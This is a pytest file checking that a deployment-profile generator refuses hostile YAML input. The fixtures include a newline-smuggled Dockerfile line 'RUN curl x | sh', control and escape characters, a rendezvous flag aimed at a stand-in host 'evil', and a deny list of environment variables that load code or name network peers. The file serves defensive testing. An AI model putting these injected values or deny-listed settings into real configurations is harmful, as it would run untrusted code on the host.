"""Hostile input, round 3 (issue 24): the mechanisms each case is fixed at, one section each.

Modal's servers cannot exist here: where they would answer, a stand-in says so. Every test here
failed on the code before its mechanism existed.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from test_hostile import BASE, run_cli

from generator import PROFILES_DIR
from generator.pipeline import load, render_to_file
from generator.rules.environment import env_refusal


def _refused(tmp_path: Path, text: str, base: str = BASE) -> str:
    """Validate and render a profile that must fail: exit 1, no traceback, nothing written."""
    (tmp_path / "p.yaml").write_text(base + text, encoding="utf-8")
    code, _, err = run_cli("render", str(tmp_path / "p.yaml"), "-o", str(tmp_path / "a.py"))
    assert code == 1 and "Traceback" not in err, err
    assert not (tmp_path / "a.py").exists()
    return err


# --- No control character reaches an image, an environment or an argv ---------------------------


@pytest.mark.parametrize(
    ("text", "where", "char"),
    [
        # modal 1.6.4 Image.env: `ENV K=<shlex-quoted>`; the second line is its own instruction.
        ('env:\n  NCCL_DEBUG: "WARN\\nRUN curl x | sh"\n', "env.NCCL_DEBUG", "U+000A"),
        ('sglang:\n  env:\n    SGLANG_X: "a\\rb"\n', "sglang.env.SGLANG_X", "U+000D"),
        ('sglang:\n  extra_args: ["--enable-cache-report\\0"]\n', "sglang.extra_args[0]", "U+0000"),
        ('model:\n  served_model_name: "glm\\x1b[2J"\n', "model.served_model_name", "U+001B"),
        ('model:\n  served_model_name: "glm\\u2028x"\n', "model.served_model_name", "U+2028"),
        ('app:\n  name: "a\\x85b"\n', "app.name", "U+0085"),
    ],
)
def test_control_characters_are_refused_where_written(tmp_path, text, where, char):
    err = _refused(tmp_path, text)
    assert "p.yaml:" in err and f"{where}: the value carries the control character {char}" in err


def test_control_character_in_a_key_is_located(tmp_path):
    err = _refused(tmp_path, 'silence:\n  "web-server-request-cap\\0": because\n')
    assert (
        "silence.web-server-request-cap\\x00: the key carries the control character U+0000" in err
    )


def test_free_text_may_span_lines_but_carries_no_other_control(tmp_path):
    ok = "description: |\n  Two lines\n  of text\tand a tab\n"
    (tmp_path / "ok.yaml").write_text(BASE + ok)
    assert load(tmp_path / "ok.yaml").deployment
    err = _refused(tmp_path, 'description: "bell \\a"\n')
    assert "description: the value carries the control character U+0007" in err


def test_a_secret_with_a_control_character_is_not_quoted(tmp_path):
    token = "hf_" + "a1B2c3D4e5F6g7H8i9J0kLmN"
    err = _refused(tmp_path, f'env:\n  NCCL_DEBUG: "{token}\\n"\n')
    assert token not in err and "<redacted>" in err


# --- Flags that join or trust another host are the cluster section's ----------------------------


@pytest.mark.parametrize(
    ("args", "owner"),
    [
        ("[--nnodes, '2']", "set cluster.nodes instead"),
        ("[--node-rank=1]", "set cluster.nodes (each container's rank"),
        ("[--dist-init-addr, '10.0.0.1:5000']", "rank 0's address comes from Modal"),
        ("[--nccl-init-addr, '10.0.0.1:5000']", "rank 0's address comes from Modal"),  # alias
        ("[--dist-init, '10.0.0.1:5000']", "rank 0's address comes from Modal"),  # abbreviation
        ("[--remote-instance-weight-loader-seed-instance-ip, 10.0.0.2]", "no profile field"),
        ("[--disaggregation-mode, prefill]", "no profile field"),
        ("[--encoder-urls, 'http://10.0.0.3']", "no profile field"),
        ("[--otlp-traces-endpoint, 'collector:4317']", "no profile field"),
    ],
)
def test_extra_args_may_not_join_or_trust_another_host(tmp_path, args, owner):
    err = _refused(tmp_path, f"sglang:\n  extra_args: {args}\n")
    assert "[sglang-flag-refused] sglang.extra_args[0]:" in err and owner in err, err
    assert "sglang/srt/" in err


def test_a_cluster_profile_may_not_add_rendezvous_flags_either(tmp_path):
    base = f"extends: {PROFILES_DIR / 'glm51-bf16-cluster.yaml'}\n"
    err = _refused(tmp_path, "sglang:\n  extra_args: [--dist-init-addr, 'evil:5000']\n", base)
    assert "[sglang-flag-refused] sglang.extra_args[0]: --dist-init-addr" in err
    # The cluster's own --nnodes comes from cluster.nodes, not extra_args: it renders.
    (tmp_path / "c.yaml").write_text(base)
    assert "--nnodes" in render_to_file(load(tmp_path / "c.yaml"), tmp_path / "c.py").read_text()


def test_the_0510_policy_refuses_the_rendezvous_flags_too(tmp_path):
    text = "images:\n  serve:\n    tag: v0.5.10\nsglang:\n  version: '0.5.10'\n  env: null\n"
    err = _refused(tmp_path, text + "  extra_args: [--nnodes, '2']\n")
    assert "--nnodes makes the replica a rank" in err and "in SGLang 0.5.10" in err


# --- Environment variables that load code or name peers, refused by class ------------------------


@pytest.mark.parametrize(
    "name",
    [
        "SGLANG_PLUGINS",  # 0.5.23 srt/environ.py: plugin entry points to load
        "NCCL_NET_PLUGIN",
        "NCCL_TUNER_PLUGIN",
        "SGLANG_EXTERNAL_MODEL_PACKAGE",  # imports a model package by name
        "SGLANG_EXTERNAL_MM_PROCESSOR_PACKAGE",
        "HF_MODULES_CACHE",  # where trust_remote_code modules are imported from
        "TRITON_PTXAS_PATH",  # a program Triton runs
        "CUDA_HOME",
        "SGLANG_HICACHE_MOONCAKE_CONFIG_PATH",  # a native library's config file
        "NCCL_CONF_FILE",
        "XDG_CACHE_HOME",
        "CUDA_CACHE_PATH",  # compiled kernels, loaded as code
        "MASTER_ADDR",  # torch.distributed's rendezvous
        "MASTER_PORT",
        "NCCL_COMM_ID",
        "SGLANG_ZBAL_BOOTSTRAP_URL",
        "SGLANG_DISTRIBUTED_INIT_METHOD_OVERRIDE",  # 0.5.10/0.5.23: "env://" or tcp://host
    ],
)
def test_env_refuses_code_loading_and_peer_classes(tmp_path, name):
    err = _refused(tmp_path, f"sglang:\n  env:\n    {name}: x\n")
    assert f"[env-policy] sglang.env.{name}: {name} " in err


@pytest.mark.parametrize(
    "name",
    [
        "NCCL_DEBUG",
        "NCCL_IB_HCA",
        "NCCL_SOCKET_IFNAME",
        "SGLANG_ENABLE_SPEC_V2",
        "SGLANG_CHUNKED_PREFIX_CACHE_THRESHOLD",
        "TORCH_CUDA_ARCH_LIST",
        "CUDA_VISIBLE_DEVICES",
    ],
)
def test_env_classes_leave_ordinary_settings_alone(name):
    assert env_refusal(name) is None
